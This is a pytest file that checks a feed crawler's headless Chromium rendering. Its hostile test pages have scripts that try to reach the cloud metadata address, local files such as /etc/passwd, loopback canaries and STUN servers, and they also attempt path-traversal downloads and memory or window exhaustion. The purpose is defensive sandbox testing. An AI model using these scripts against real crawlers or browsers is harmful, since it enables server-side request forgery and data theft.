"""Pages that a browser draws, and that try every way out of it: into the network, to files, to other windows, out of time and memory.

The browser is no part of the test's network: what it reached by itself would be reached for real. So canaries listen on loopback, and
its sockets are looked at while it works.
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from spiders.browser import MOST_MB
from spiders.chromium import lacking
from spiders.drawing import LARGEST_DRAWN, MOST_PARTS, MOST_WINDOWS, MOST_WISHES
from tests.hostile import scan
from tests.hostile.case import Case, entry, named, page, rss
from tests.hostile.cases_documents import LONG
from tests.hostile.world import SECRET, Run, World, world
from tests.spiders.site import Page, Reply, Site, redirect

pytestmark = [pytest.mark.chromium, pytest.mark.skipif(lacking() is not None, reason=f"a browser cannot be had: {lacking()}")]

FILE = "CANARY-91c4-file"
HTML = {"Content-Type": "text/html; charset=utf-8"}


class Udp:
    """Listens for datagrams, as STUN servers do."""

    def __init__(self) -> None:
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 0))
        self.socket.settimeout(0.1)
        self.place = f"127.0.0.1:{self.socket.getsockname()[1]}"

    def heard(self) -> bytes:
        """What has come, if anything."""
        try:
            return self.socket.recv(2_000)
        except TimeoutError:
            return b""


def _scripted(name: str, script: str, *, head: str = "", frame: str = "") -> Reply:
    return Reply(page(named(f"vẽ {name}"), LONG, LONG, head=head, frame=f"{frame}<script>{script}</script>"), headers=HTML)


def _ways_out(canary: Site, udp: Udp, secret: Path) -> dict[str, Reply]:
    """Pages by name; each keeps its headline and text whatever its scripts try."""
    there, socket_there = canary.url(""), canary.url("").replace("http", "ws", 1)
    inside = [f"{there}/secret", f"http://2130706433:{canary.port}/secret", "http://inside.example/secret", "http://169.254.169.254/latest/meta-data/", "/to-inside", "http://tracker.example/x", f"{secret.as_uri()}", "chrome://version"]  # fmt: skip
    take = (
        "const put = text => { const p = document.createElement('p'); p.textContent = text; document.querySelector('article').append(p); };"
    )
    tries = f"""{take}
    const inside = {json.dumps(inside)};
    const go = way => {{ try {{ const going = way(); going && going.catch && going.catch(() => 0); }} catch (error) {{}} }};
    for (const url of inside) {{
      go(() => fetch(url).then(answer => answer.text()).then(put));
      go(() => fetch(url, {{mode: "no-cors", method: "POST", body: "x", credentials: "include", keepalive: true}}));
      go(() => {{ const asked = new XMLHttpRequest(); asked.onload = () => put(asked.responseText); asked.open("GET", url); asked.send(); }});
      go(() => import(url)); go(() => new Worker(url)); go(() => new SharedWorker(url)); go(() => navigator.sendBeacon(url, "x"));
      go(() => new EventSource(url)); go(() => {{ new Image().src = url; }}); go(() => {{ new Audio(url).play(); }}); go(() => navigator.serviceWorker.register(url));
      go(() => new FontFace("x", `url(${{url}})`).load());
      for (const [tag, name] of [["iframe", "src"], ["object", "data"], ["embed", "src"], ["script", "src"], ["link", "href"], ["video", "poster"], ["track", "src"], ["portal", "src"], ["fencedframe", "src"]])
        go(() => {{ const element = document.createElement(tag); element[name] = url; element.setAttribute(name, url); if (tag == "link") element.rel = "stylesheet"; document.body.append(element); }});
      for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest"])
        go(() => {{ const link = document.createElement("link"); link.rel = rel; link.href = url; link.as = "fetch"; document.head.append(link); }});
    }}
    go(() => new Worker(URL.createObjectURL(new Blob([`importScripts("{there}/secret"); fetch("{there}/secret"); new WebSocket("{socket_there}/secret")`]))));
    go(() => new WebSocket("{socket_there}/secret")); go(() => new WebSocket("ws://169.254.169.254/"));
    go(() => new WebTransport("https://{canary.netloc}/secret"));
    go(() => {{ const peer = new RTCPeerConnection({{iceServers: [{{urls: ["stun:{udp.place}", "turn:{udp.place}?transport=udp"], username: "x", credential: "x"}}]}});
      peer.createDataChannel("x"); peer.onicecandidate = told => told.candidate && put(told.candidate.candidate); peer.createOffer().then(offer => peer.setLocalDescription(offer)); }});
    go(() => {{ const form = document.createElement("form"); form.action = "{there}/secret"; form.method = "post"; form.target = "x"; document.body.append(form); form.submit(); }});
    go(() => navigator.serviceWorker.register("/worker.js"));"""
    speculation = json.dumps({"prefetch": [{"source": "list", "urls": [f"{there}/secret", "/to-inside"]}], "prerender": [{"source": "list", "urls": [f"{there}/secret"]}]})  # fmt: skip
    heads = f"<link rel='dns-prefetch' href='//tracker.example'><link rel='preconnect' href='{there}'><script type='speculationrules'>{speculation}</script><style>@import '{there}/secret'; body {{ background: url({there}/secret) }}</style>"
    return {
        "tries": _scripted("tries", tries, head=heads),
        "refreshes": _scripted("refreshes", "", head=f"<meta http-equiv='refresh' content='0;url={there}/secret'>"),
        "leaves": _scripted("leaves", f"for (const to of ['{there}/secret', '/to-inside', 'file:///etc/passwd', 'data:text/html,x']) setTimeout(() => {{ location = to; }}, 0); location.replace('{there}/secret');"),
        "talks": _scripted("talks", "alert('x'); confirm('x'); prompt('x'); print(); onbeforeunload = () => 'x'; document.title = 'khác'; history.pushState({}, '', '/khac'); console.log('x'.repeat(1e6));"),
        "downloads": _scripted("downloads", f"for (const url of ['/file.bin', '{there}/secret', URL.createObjectURL(new Blob(['x']))]) {{ const a = document.createElement('a'); a.href = url; a.download = '../../x.sh'; document.body.append(a); a.click(); }}"),
        "workers": _scripted("workers", "navigator.serviceWorker.register('/worker.js').then(() => { document.querySelector('h1').textContent = 'đăng ký được'; }); caches.open('x').then(one => one.add('/feed')); indexedDB.open('x'); localStorage.x = 'y'; document.cookie = 'sid=1';"),
    }  # fmt: skip


def _never_done() -> dict[str, Reply]:
    """Pages that cost themselves: what the feed says of them stays. After three of them the host's other pages wait for the next crawl."""
    large = f"const one = document.createElement('b'); one.hidden = true; document.body.append(one); one.textContent = 'x'.repeat({2 * LARGEST_DRAWN});"
    return {"larges": _scripted("larges", large), "large": _scripted("large", large), "larger": _scripted("larger", large), "waits": _scripted("waits", "")}  # fmt: skip


_TAKES = f"""const held = [];
const more = () => {{ held.push(new Uint8Array(64 * 2 ** 20).fill(1)); if (held.length < {3 * MOST_MB // 64}) setTimeout(more, 50); }};
fetch('/held').catch(() => 0); more();"""


def _without_end() -> dict[str, Reply]:
    """Pages that are given up for what they ask for; what one of them waits for keeps it open until then, on a slow machine, too."""
    ways = {
        "asks": f"for (let n = 0; n < {MOST_WISHES}; n++) {{ if (n % 2) fetch('/asked?' + n).catch(() => 0); new Image().src = '/picture?' + n; }}",
        "opens": f"for (let n = 0; n <= {MOST_WINDOWS}; n++) window.open('/opened?' + n);",
        "blanks": f"for (let n = 0; n <= {MOST_WINDOWS}; n++) window.open('about:blank');",
    }  # fmt: skip
    return {name: _scripted(name, f"fetch('/held').catch(() => 0); {script}") for name, script in ways.items()}


@dataclass
class Drawn:
    world: World
    run: Run
    canary: Site
    udp: Udp
    text: str  # of all that is stored
    sockets: set[str]  # what the browser's processes were connected to, or listened at


class _Sockets(threading.Thread):
    """Looks at the sockets of Chromium's processes while they live."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.ended = threading.Event()
        self.found: set[str] = set()
        self.looked = 0

    def run(self) -> None:
        while not self.ended.wait(0.5):
            for one in psutil.Process().children(recursive=True):
                try:
                    if "chrom" not in one.name():
                        continue
                    self.looked += 1
                    self.found |= {
                        f"{place.laddr} {place.raddr}"
                        for place in one.net_connections(kind="inet")
                        if place.raddr or place.status == "LISTEN"
                    }
                except psutil.Error:
                    continue  # gone meanwhile


@pytest.fixture(scope="module")
def drawn(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Drawn]:
    folder = tmp_path_factory.mktemp("drawn")
    secret = folder / "secret.txt"
    secret.write_text(FILE)
    udp = Udp()
    with Site() as canary:
        canary.pages["/secret"] = Reply(SECRET, headers={"Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript"})
        pages: dict[str, Page] = {f"/{name}": reply for name, reply in _ways_out(canary, udp, secret).items()}
        pages |= {"/to-inside": redirect(canary.url("/secret")), "/worker.js": Reply("", headers={"Content-Type": "text/javascript"})}
        pages["/file.bin"] = Reply(b"x", headers={"Content-Disposition": "attachment; filename=../../x.sh"})
        held = threading.Event()
        asks: dict[str, Page] = {f"/{name}": reply for name, reply in _without_end().items()}
        greedy: dict[str, Page] = {"/takes": _scripted("takes", _TAKES)}
        # Until it is answered the host is asked for nothing else: of "asks" there are three pages.
        asks["/held"] = lambda seen: Reply("" if held.wait(10) else "late")
        greedy["/held"] = lambda seen: Reply("" if held.wait(40) else "late")
        stuck: dict[str, Page] = {f"/{name}": reply for name, reply in _never_done().items()}
        app = "document.querySelector('#app').innerHTML = '<article><h1>' + document.title + '</h1>' + ('<p>' + text + '</p>').repeat(3) + '</article>';"
        honest = Reply(
            f"<html><head><title>{named('vẽ thật')}</title></head><body><div id='app'></div><script>const text = {json.dumps(LONG)}; {app}</script></body></html>",
            headers=HTML,
        )
        cases = [
            Case(name="ways-out", feed=_feed("ways-out", pages), pages=pages, config={"browser": True}),
            Case(name="asks", feed=_feed("asks", asks), pages=asks, config={"browser": True}),
            Case(name="greedy", feed=_feed("greedy", greedy), pages=greedy, config={"browser": True}),
            Case(name="never-done", feed=_feed("never-done", stuck), pages=stuck, config={"browser": True}),
            *(Case(name=f"honest-{n}", feed=rss(entry(f"honest-{n}", 1, named("vẽ thật"))), pages={"/1": honest}, config={"browser": True}) for n in range(2)),
        ]  # fmt: skip
        with world(cases, folder, timeout_seconds=120.0, deadline_minutes=10) as made:
            watch = _Sockets()
            watch.start()
            run = made.run("-v", "crawl", "--json", every=1.0)
            watch.ended.set()
            watch.join()
            held.set()
            assert watch.looked
            yield Drawn(made, run, canary, udp, made.run("export", "--text").out, watch.found)
    udp.socket.close()


def _feed(host: str, pages: dict[str, Page]) -> str:
    names = [path[1:] for path in pages if path not in {"/to-inside", "/worker.js", "/file.bin", "/held"}]
    return rss(*(entry(host, name, named(f"vẽ {name}")) for name in names))  # asked in this order: none has a date


def _stored(drawn: Drawn) -> dict[str, dict[str, str]]:
    records = [json.loads(line) for line in drawn.text.splitlines()]
    return {record["url"].rpartition("/")[2]: record for record in records}


def test_no_page_reaches_anything_but_through_the_crawl(drawn: Drawn) -> None:
    assert drawn.canary.seen == []
    assert drawn.udp.heard() == b""
    log = drawn.world.log()
    assert not [line for line in log if line.startswith("breach")]
    assert drawn.world.inside.seen == []
    # What a script may ask for, the crawl asks for it; pictures, style sheets and hints it does not.
    assert {one.path for one in drawn.world.open.seen if one.host == "tracker.example"} <= {"/robots.txt", "/x"}
    assert drawn.sockets == set()


def test_no_page_is_told_anything(drawn: Drawn) -> None:
    for word in (SECRET, FILE, "PATH=", "root:", "candidate:"):
        assert word not in drawn.text, word
    for site in drawn.world.seen:
        for one in site.seen:
            assert not {"cookie", "referer"} & set(one.headers), one


@pytest.mark.parametrize("name", ["tries", "refreshes", "leaves", "talks", "downloads", "workers"])
def test_a_page_that_tries_its_way_out_is_read_as_it_stands(drawn: Drawn, name: str) -> None:
    record = _stored(drawn)[name]
    assert record["title"] == named(f"vẽ {name}")
    assert record["body_from"] == "page" and LONG in record["text"], drawn.run.err


@pytest.mark.parametrize("name", ["larges", "large", "larger", "waits", "asks", "opens", "blanks", "takes"])
def test_a_page_that_is_never_done_costs_itself(drawn: Drawn, name: str) -> None:
    record = _stored(drawn)[name]
    assert (record["title"], record["body_from"]) == (named(f"vẽ {name}"), "feed")


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("asks", "its scripts ask for things without end"),
        ("opens", "its scripts open windows without end"),
        ("blanks", "its scripts open windows without end"),
        ("takes", f"it took more than {MOST_MB} MB of memory"),
        ("large", "it is larger than is read when it is drawn"),
    ],
)
def test_what_ended_a_page_is_told_and_nothing_else_is(drawn: Drawn, name: str, why: str) -> None:
    host = {"takes": "greedy", "large": "never-done"}.get(name, "asks")
    assert f"http://{host}.example/{name} could not be drawn: {why}" in drawn.run.err
    for noise in ("Task was destroyed", "never retrieved", "Traceback", "asyncio"):
        assert noise not in drawn.run.err, noise


def test_an_honest_page_is_drawn_beside_them(drawn: Drawn) -> None:
    records = [json.loads(line) for line in drawn.text.splitlines()]
    honest = [one for one in records if one["title"] == named("vẽ thật")]
    assert len(honest) == 2 and {one["body_from"] for one in honest} == {"page"} and all(LONG in one["text"] for one in honest)


def test_what_a_page_asks_for_is_bounded_and_the_crawl_ends(drawn: Drawn) -> None:
    print(f"{drawn.run.seconds:.1f} s, peak {drawn.run.peak_mb:.0f} MB with the browser")
    assert drawn.run.code == 0, drawn.run.err
    asked = [one.path for one in drawn.world.open.seen]
    assert 0 < sum(path.startswith("/asked?") for path in asked) <= MOST_PARTS
    assert not [path for path in asked if path.startswith(("/picture", "/opened", "/file.bin"))]
    assert drawn.run.peak_mb < 2_000
    assert not scan.scan_lines(drawn.run.err)
